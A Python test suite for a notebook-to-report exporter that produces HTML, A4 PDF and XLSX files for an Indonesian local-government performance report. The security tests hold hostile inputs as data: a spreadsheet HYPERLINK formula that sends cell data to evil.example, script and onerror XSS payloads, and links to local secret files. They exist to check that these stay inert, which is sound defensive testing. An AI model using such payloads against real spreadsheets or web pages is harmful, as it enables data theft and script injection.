"""Tests of kinerja_analysis.export — self-contained HTML, A4 PDF, XLSX, atomic writes.

Built on a hand-made executed notebook (no kernel needed): the checks are about what
the exporter keeps and drops, not about the analysis.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
import io
import re

import nbformat
import pandas as pd
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from kinerja_analysis.core.io import atomic_write
from kinerja_analysis.reporting.export import to_html, to_pdf, to_xlsx

TANGGAL = dt.date(2026, 11, 28)


def _png() -> str:
    from matplotlib.figure import Figure

    fig = Figure(figsize=(2, 1.5))
    fig.add_subplot().plot([1, 2, 3], [2, 1, 3])
    buf = io.BytesIO()
    fig.savefig(buf, format="png")
    return base64.b64encode(buf.getvalue()).decode("ascii")


@pytest.fixture(scope="module")
def nb():
    params = new_code_cell(
        'periode = "2025Q4"\ndata_dir = "/rahasia/data"', metadata={"tags": ["parameters"]}
    )
    injected = new_code_cell(
        'periode = "2025Q4"\ndata_dir = "/rahasia/injeksi"',
        metadata={"tags": ["injected-parameters"]},
    )
    plot = new_code_cell("import matplotlib.pyplot as plt\nplt.plot([1, 2])")
    plot.outputs = [
        new_output("stream", name="stderr", text="FutureWarning: sesuatu usang\n"),
        new_output("display_data", data={"image/png": _png(), "text/plain": "<Figure>"}),
    ]
    table = new_code_cell("report.tabel(df)")
    table.outputs = [
        new_output(
            "execute_result",
            data={
                "text/html": "<table><tr><th>OPD</th><th>n</th></tr><tr><td>Dinas A</td><td>12</td></tr></table>"
            },
            execution_count=3,
        )
    ]
    cells = [
        new_markdown_cell("# Judul Notebook\n\nPengantar singkat."),
        params,
        injected,
        new_markdown_cell("## Pendahuluan\n\nTeks pendahuluan."),
        plot,
        new_markdown_cell("## Hasil dan Temuan\n\n### Angka utama"),
        table,
        new_markdown_cell("## Kesimpulan\n\nSelesai."),
    ]
    return new_notebook(
        cells=cells,
        metadata={
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
        },
    )


@pytest.fixture(scope="module")
def html(nb):
    return to_html(nb, title="Laporan Uji", periode="2025Q4", created=TANGGAL)


def test_html_cover_and_sections(html):
    assert "Pemerintah Kota Kotalama" in html
    assert "Laporan Uji" in html
    assert "Triwulan IV 2025" in html
    assert "Dibuat 28 November 2026" in html
    for h in ("Pendahuluan", "Hasil dan Temuan", "Angka utama", "Kesimpulan"):
        assert re.search(rf"<h[23][^>]*>{h}</h[23]>", html), h
    # the notebook's own title is replaced by the cover
    assert "Judul Notebook" not in html
    assert html.count("<h1") == 1


def test_html_has_no_code_params_or_stderr(html):
    assert "import matplotlib" not in html
    assert "plt.plot" not in html
    assert "jp-InputArea" not in html and "input_area" not in html
    assert "/rahasia/" not in html  # neither parameters nor injected-parameters cells
    assert "FutureWarning" not in html
    assert "anchor-link" not in html
    assert "Out[" not in html and "In&nbsp;[" not in html


def test_html_self_contained(html):
    assert "<script" not in html.lower()
    assert '<meta http-equiv="Content-Security-Policy"' in html
    import html as _h

    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', html).group(1)
    assert _h.unescape(csp).startswith("default-src 'none'") and "script-src" not in csp
    assert not re.search(r"<link[^>]+href=", html, re.I)
    assert not re.search(r"""(src|href)=["']?https?:""", html, re.I)
    assert "@import" not in html
    imgs = re.findall(r'<img[^>]+src="data:image/png;base64,([A-Za-z0-9+/=]+)"', html)
    assert len(imgs) == 1 and base64.b64decode(imgs[0])[:8] == b"\x89PNG\r\n\x1a\n"
    assert 'name="viewport"' in html  # phone-readable
    assert "<td>Dinas A</td>" in html


def test_html_does_not_modify_notebook(nb):
    before = copy.deepcopy(nb)
    to_html(nb, title="x", periode="2025Q4", created=TANGGAL)
    assert nb == before


def test_html_english_and_free_text_period(nb):
    h = to_html(nb, title="Report", periode="2025S1", bahasa="en", created=TANGGAL)
    assert "Government of Kotalama City" in h and "Semester 1 2025" in h
    assert "Generated 28 November 2026" in h and 'lang="en"' in h
    h2 = to_html(nb, title="R", periode="Triwulan I 2024 – Triwulan IV 2025", created=TANGGAL)
    assert "Triwulan I 2024 – Triwulan IV 2025" in h2
    with pytest.raises(ValueError, match="bahasa"):
        to_html(nb, title="R", periode="2025Q1", bahasa="fr")


def test_pdf_a4_with_page_numbers(html, tmp_path):
    from pypdf import PdfReader

    path = to_pdf(html, tmp_path / "laporan.pdf")
    reader = PdfReader(str(path))
    assert 1 <= len(reader.pages) <= 3
    box = reader.pages[0].mediabox
    # A4 = 210 x 297 mm = 595.28 x 841.89 pt (ISO 216)
    assert float(box.width) == pytest.approx(595.28, abs=1.0)
    assert float(box.height) == pytest.approx(841.89, abs=1.0)
    text = "\n".join(p.extract_text() for p in reader.pages)
    for s in (
        "Pemerintah Kota Kotalama",
        "Triwulan IV 2025",
        "Pendahuluan",
        "Kesimpulan",
        "Halaman 1 /",
    ):
        assert s.replace(" ", "").lower() in text.replace(" ", "").lower(), s
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]


def _emoji_family() -> str | None:
    """The font family fontconfig picks for U+1F3E5 (an emoji) beside the report's
    font, or None when no installed font has it."""
    import shutil
    import subprocess

    if shutil.which("fc-list") is None or shutil.which("fc-match") is None:
        return None
    have = subprocess.run(
        ["fc-list", ":charset=1f3e5", "family"], capture_output=True, text=True, check=False
    ).stdout
    if not have.strip():
        return None
    picked = subprocess.run(
        ["fc-match", "-f", "%{family}", "DejaVu Sans:charset=1f3e5"],
        capture_output=True,
        text=True,
        check=False,
    ).stdout
    return picked.split(",")[0].strip() or None


def test_pdf_draws_emoji_of_the_data_with_an_emoji_font(nb):
    """An emoji in a value (a training title pasted from a chat app) is drawn by an
    emoji font in the PDF, not as an empty box: scripts/system-deps.sh installs one."""
    from pypdf import PdfReader
    from pypdf.generic import ContentStream

    from kinerja_analysis.reporting.export import pdf_bytes

    family = _emoji_family()
    if family is None:
        pytest.skip("no emoji font installed (scripts/system-deps.sh installs one)")
    nb = copy.deepcopy(nb)
    table = next(c for c in nb.cells if c.source.startswith("report.tabel"))
    table.outputs[0]["data"]["text/html"] = (
        "<table><tr><th>Pelatihan</th></tr><tr><td>Kepemimpinan \U0001f680 Dinas \U0001f3e5</td>"
        "</tr></table>"
    )
    reader = PdfReader(io.BytesIO(pdf_bytes(to_html(nb, title="Uji", periode="2025Q4"))))
    used = set()
    for page in reader.pages:
        fonts = page["/Resources"]["/Font"]
        for operands, op in ContentStream(page.get_contents(), reader).operations:
            if op == b"Tf":
                used.add(str(fonts[operands[0]].get_object()["/BaseFont"]))
    # a subset font is named "ABCDEF+Family-Name"
    assert family.replace(" ", "-") in {u.split("+", 1)[-1] for u in used}, used
    assert "\U0001f3e5" in "".join(p.extract_text() for p in reader.pages)


def test_xlsx_sheets_header_widths(tmp_path):
    from openpyxl import load_workbook

    a = pd.DataFrame(
        {"opd": ["Dinas A", "Dinas B"], "n_asn": [12, 40], "ikm": [81.25, float("nan")]}
    )
    a.attrs["judul"] = "IKM per OPD"
    b = pd.DataFrame({"periode": ["2025Q1"], "tanggal": [pd.Timestamp("2025-03-31")]}).set_index(
        "periode"
    )
    long_name = "nama_tabel_yang_sangat_panjang_sekali_lebih_31"
    path = to_xlsx(
        {"ikm_per_opd": a, "a/b:c": b, long_name: a, long_name + "_2": a},
        tmp_path / "t.xlsx",
        info={"judul": "Uji", "periode": "2025Q1"},
        source="Sumber: uji",
    )
    wb = load_workbook(path)
    names = wb.sheetnames
    assert names[0] == "info" and names[1] == "ikm_per_opd" and names[2] == "a_b_c"
    assert all(len(n) <= 31 for n in names) and len({n.lower() for n in names}) == len(names)
    ws = wb["ikm_per_opd"]
    # title, source note, an empty row, then readable headers from the label registry
    assert ws["A1"].value == "IKM per OPD" and ws["A2"].value == "Sumber: uji"
    assert [c.value for c in ws[4]] == ["OPD", "Jumlah ASN", "IKM"]
    assert all(c.font.bold for c in ws[4])
    assert ws.freeze_panes == "A5"
    assert (
        ws["B5"].value == 12 and ws["C5"].value == pytest.approx(81.25) and ws["C6"].value is None
    )
    assert ws["B5"].number_format == "#,##0" and ws["C5"].number_format == "#,##0.00"
    assert ws.column_dimensions["A"].width >= len("Dinas A")
    ws2 = wb["a_b_c"]
    assert ws2["A3"].value == "Periode"  # a named index becomes a column
    assert ws2["B4"].value == dt.datetime(2025, 3, 31)
    assert wb["info"]["B1"].value == "Uji"


def test_xlsx_number_formats_per_column(tmp_path):
    """Percent as percent (fractions and 0–100 columns alike), p-values as <0,001."""
    from openpyxl import load_workbook

    df = pd.DataFrame(
        {
            "opd": ["A", "B"],
            "pct_di_bawah_20": [0.259, 0.5],
            "tepat_waktu_pct": [95.5, 80.0],
            "p_value": [1.98e-30, 0.0432],
            "estimate": [1.23456, -0.5],
            "rerata": [3.14159, 2.0],
        }
    )
    df.attrs["format"] = {"rerata": {"jenis": "desimal", "desimal": 1}}
    for bahasa, small in (("id", '"<0,001"'), ("en", '"<0.001"')):
        path = to_xlsx({"t": df}, tmp_path / f"f_{bahasa}.xlsx", bahasa=bahasa)
        ws = load_workbook(path)["t"]
        head = [c.value for c in ws[1]]
        assert "pct_di_bawah_20" not in head and "p_value" not in head
        row = {h: c for h, c in zip(head, ws[2], strict=True)}
        cells = list(ws[2])
        assert cells[1].value == pytest.approx(0.259) and cells[1].number_format == "0.0%"
        # 0–100 column stored as a fraction so that the percent format is right
        assert cells[2].value == pytest.approx(0.955) and cells[2].number_format == "0.0%"
        assert cells[3].value == pytest.approx(1.98e-30)
        assert cells[3].number_format == f"[<0.001]{small};0.000"
        assert cells[4].number_format == "#,##0.00"
        assert cells[5].number_format == "#,##0.0"
        assert len(row) == 6


def test_xlsx_writes_an_empty_table_with_a_column_format(tmp_path):
    """A table left empty by the data (a period whose rows were all rejected) is written
    with its header; a column with a format and no per-row units was a KeyError."""
    from openpyxl import load_workbook

    df = pd.DataFrame({"indikator": pd.Series([], dtype=str), "nilai": pd.Series([], dtype=float)})
    df.attrs["format"] = {"nilai": {"jenis": "desimal", "desimal": 1}}
    ws = load_workbook(to_xlsx({"t": df}, tmp_path / "e.xlsx"))["t"]
    assert ws.max_row == 1 and ws.max_column == 2


def test_xlsx_cells_are_data_never_formulas(tmp_path):
    import zipfile

    from openpyxl import load_workbook

    texts = [
        "=1+1",
        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "+1+1",
        "-2+3",
        "@SUM(1)",
        "\tTab",
        "\rCR",
        "-",
        "Dinas\x0bVT\x00NUL",
    ]
    df = pd.DataFrame({"opd": texts, "n": range(len(texts))})
    df.attrs["judul"] = "=JUDUL()"
    path = to_xlsx({"t": df}, tmp_path / "x.xlsx", info={"judul": "=INFO()"})
    with zipfile.ZipFile(path) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml
    wb = load_workbook(path)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    values = [c.value for c in wb["t"]["A"]][3:]
    assert values[:8] == texts[:8]  # the text itself, not a formula or a number
    assert values[8] == "Dinas\ufffdVT\ufffdNUL"  # control characters made visible
    for c in wb["t"]["A"][3:]:
        if str(c.value).startswith(("=", "+", "-", "@", "\t", "\r")):
            assert c.quotePrefix, c.value  # editing the cell in Excel keeps it text


def test_xlsx_failure_keeps_previous_file(tmp_path):
    path = tmp_path / "t.xlsx"
    to_xlsx({"a": pd.DataFrame({"x": [1]})}, path)
    before = path.read_bytes()
    with pytest.raises(Exception):  # noqa: B017 - openpyxl's own error type for a dict cell
        to_xlsx({"a": pd.DataFrame({"x": [{"tidak": "bisa"}]})}, path)
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["t.xlsx"]
    with pytest.raises(ValueError, match="no tables to write"):
        to_xlsx({}, tmp_path / "kosong.xlsx")


def test_atomic_write(tmp_path):
    p = atomic_write(tmp_path / "sub" / "a.html", "satu")
    atomic_write(p, b"dua")
    assert p.read_bytes() == b"dua"
    assert [x.name for x in p.parent.iterdir()] == ["a.html"]


def test_notebook_roundtrip_is_valid(nb):
    nbformat.validate(nb)


PAYLOADS = (
    "<script>alert(1)</script>Kecamatan X",
    "<img src=x onerror=alert(2)>Badan Y",
    '<link rel="attachment" href="{secret}">Dinas Z',
    "[Klik](http://evil.example) <http://evil.example> ![x](file:///etc/hostname)",
)


def _active_markup(html: str) -> list:
    """Elements and attributes that execute or fetch: script/iframe/link/object/embed/
    base/form elements, on* handlers, src/href pointing outside the page."""
    from html.parser import HTMLParser

    found = []

    class P(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag in ("script", "iframe", "object", "embed", "link", "base", "form"):
                found.append((tag, attrs))
            for k, v in attrs:
                if k.startswith("on"):
                    found.append((tag, k, v))
                if k in ("src", "href") and v and not v.startswith(("data:image/", "#")):
                    if re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*:", v) or v.startswith("//"):
                        found.append((tag, k, v))

    P().feed(html)
    return found


def test_markdown_outputs_with_data_stay_inert(nb, tmp_path):
    secret = tmp_path / "rahasia.txt"
    secret.write_text("ISI-RAHASIA-42")
    md = "\n\n".join(p.format(secret=secret.as_uri()) for p in PAYLOADS)
    cell = new_code_cell("doc.markdown(x)")
    cell.outputs = [new_output("display_data", data={"text/markdown": f"## Temuan\n\n{md}"})]
    nb2 = copy.deepcopy(nb)
    nb2.cells.append(cell)
    title = "Laporan <script>alert(9)</script> — =1+1"
    h = to_html(nb2, title=title, periode="2025Q4", created=TANGGAL)
    assert not _active_markup(h), _active_markup(h)
    # the values are there, as text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;Kecamatan X" in h
    assert "onerror=alert(2)&gt;Badan Y" in h and "Dinas Z" in h
    assert "&lt;script&gt;alert(9)&lt;/script&gt;" in h
    assert re.search(r'<h2[^>]*id="temuan"[^>]*>Temuan</h2>', h)
    # the PDF renderer reads no file and embeds nothing
    from pypdf import PdfReader

    pdf = to_pdf(h, tmp_path / "p.pdf")
    raw = pdf.read_bytes()
    assert b"ISI-RAHASIA-42" not in raw and b"EmbeddedFile" not in raw
    reader = PdfReader(str(pdf))
    assert not reader.attachments
    text = " ".join(p.extract_text() for p in reader.pages)
    assert "Dinas Z" in text and "ISI-RAHASIA-42" not in text


def test_pdf_fetcher_refuses_files_and_network(tmp_path):
    from pypdf import PdfReader

    from kinerja_analysis.reporting.export import pdf_bytes, safe_fetcher

    secret = tmp_path / "s.txt"
    secret.write_text("RAHASIA-FETCH-7")
    page = (
        f'<html><head><link rel="attachment" href="{secret.as_uri()}">'
        f'<link rel="stylesheet" href="{secret.as_uri()}"></head><body>'
        f'<img src="{secret.as_uri()}"><img src="http://127.0.0.1:9/x.png">'
        f'<a rel="attachment" href="{secret.as_uri()}">lampiran</a><p>isi</p></body></html>'
    )
    raw = pdf_bytes(page)
    assert b"RAHASIA-FETCH-7" not in raw and b"EmbeddedFile" not in raw
    assert not PdfReader(io.BytesIO(raw)).attachments
    f = safe_fetcher()
    with pytest.raises(ValueError, match="blocked"):
        f.fetch(secret.as_uri())
    with pytest.raises(ValueError, match="blocked"):
        f.fetch("https://example.org/")
    assert f.fetch("data:text/plain;base64,aXNp") is not None  # data: URIs are allowed


def test_cover_uses_the_agency_profile(nb, tmp_path):
    from kinerja_analysis.core.profile import AgencyProfile, Signatory

    png = tmp_path / "logo.png"
    png.write_bytes(base64.b64decode(_png()))
    prof = AgencyProfile(
        name="Sukamaju",
        kind="kabupaten",
        region="Provinsi <b>Contoh</b>",
        logo=png,
        signatory=Signatory("Nama Penanda", "Sekretaris Daerah", "Sukamaju"),
    )
    h = to_html(nb, title="T", periode="2025Q4", created=TANGGAL, profile=prof)
    assert "Pemerintah Kabupaten Sukamaju" in h and "Kotalama" not in h
    assert "Provinsi &lt;b&gt;Contoh&lt;/b&gt;" in h
    assert 'class="logo" src="data:image/png;base64,' in h
    assert "Sukamaju, 28 November 2026" in h and "Nama Penanda" in h
    en = to_html(nb, title="T", periode="2025Q4", bahasa="en", profile=prof)
    assert "Sukamaju Regency Government" in en


def test_pdf_is_laid_out_with_the_collector_paused_and_its_state_restored(monkeypatch):
    """The cyclic collector is off while WeasyPrint lays out and writes the PDF (its
    passes would walk the layout's objects and the process's heap for nothing) and
    comes back as it was, also when the rendering fails."""
    import gc

    import weasyprint

    from kinerja_analysis.reporting.export import pdf_bytes

    seen = []
    real_render = weasyprint.HTML.render

    def render(self, *a, **k):
        seen.append(gc.isenabled())
        return real_render(self, *a, **k)

    monkeypatch.setattr(weasyprint.HTML, "render", render)
    html = "<html><head><title>t</title></head><body><p>ok</p></body></html>"
    assert gc.isenabled()
    assert pdf_bytes(html).startswith(b"%PDF")
    assert seen == [False] and gc.isenabled()

    gc.disable()
    try:
        pdf_bytes(html)
        assert not gc.isenabled()  # a caller's disabled collector stays disabled
    finally:
        gc.enable()

    def broken(self, *a, **k):
        raise RuntimeError("layout failed")

    monkeypatch.setattr(weasyprint.HTML, "render", broken)
    with pytest.raises(RuntimeError):
        pdf_bytes(html)
    assert gc.isenabled()


def test_image_stash_round_trip_and_only_its_own_references():
    from kinerja_analysis.reporting.export import ImageStash

    png = _png()
    page = (
        f'<p>kinerja-gambar:0 kinerja-gambar:abc:0</p><img src="data:image/png;base64,{png}">'
        '<img src="data:image/jpeg;base64,/9j/4AAQ">'
    )
    s = ImageStash()
    short = s.stash(page)
    assert "base64" not in short and len(short) < 300
    assert s.restore(short) == page
    # the data's own text is left alone and names no image
    assert "<p>kinerja-gambar:0 kinerja-gambar:abc:0</p>" in short
    assert s.resource("kinerja-gambar:0") is None
    assert s.resource("kinerja-gambar:abc:0") is None
    assert s.resource(f"kinerja-gambar:{s.token}:9") is None
    mime, body = s.resource(f"kinerja-gambar:{s.token}:0")
    assert mime == "image/png" and body == base64.b64decode(png)
    assert s.resource(f"kinerja-gambar:{s.token}:1")[0] == "image/jpeg"
    # another stash cannot read this one's references
    assert ImageStash().resource(f"kinerja-gambar:{s.token}:0") is None
    # only whole src values: a URI broken over lines, or one in text, stays as it is
    odd = (
        '<img src="data:image/png;base64,AAAA\nBBBB"><p>data:image/png;base64,QUJD</p>'
        '<p>Setda data:image/png;base64,QUJD\' x</p><a href="data:image/png;base64,QUJD">'
        "<p>src=&quot;data:image/png;base64,QUJD&quot;</p>"
    )
    assert s.stash(odd) == odd


def test_html_export_keeps_images_exactly(nb):
    """Images set aside while nbconvert works come back byte for byte, in place."""
    png = _png()
    nb2 = copy.deepcopy(nb)
    fig = new_code_cell("doc.figure(...)")
    fig.outputs = [
        new_output(
            "display_data",
            data={"text/html": f'<figure><img alt="x" src="data:image/png;base64,{png}"></figure>'},
        )
    ]
    nb2.cells.append(fig)
    h = to_html(nb2, title="T", periode="2025Q4", created=TANGGAL)
    assert f'src="data:image/png;base64,{png}"' in h
    assert "kinerja-gambar" not in h
    # the exporter is made once and reused: a second notebook gets its own content
    h_plain = to_html(nb, title="T", periode="2025Q4", created=TANGGAL)
    assert h_plain.count(png) == h.count(png) - 1


def test_pdf_embeds_stashed_images(nb):
    from pypdf import PdfReader

    from kinerja_analysis.reporting.export import pdf_bytes

    png = _png()
    page = (
        "<html><head><title>t</title></head><body>"
        f'<img src="data:image/png;base64,{png}"><p>kinerja-gambar:0</p>'
        f"<p>Setda data:image/png;base64,{png[:40]}' akhir</p></body></html>"
    )
    reader = PdfReader(io.BytesIO(pdf_bytes(page)))
    text = "".join(p.extract_text() for p in reader.pages).replace("\n", "")
    # text that looks like an image is printed as the text it is
    assert f"Setda data:image/png;base64,{png[:40]}" in text
    assert text.count("kinerja-gambar") == 1
    images = [img for p in reader.pages for img in p.images]
    assert len(images) == 1
    from PIL import Image

    want = Image.open(io.BytesIO(base64.b64decode(png))).convert("RGB")
    got = images[0].image.convert("RGB")
    assert got.size == want.size and got.tobytes() == want.tobytes()
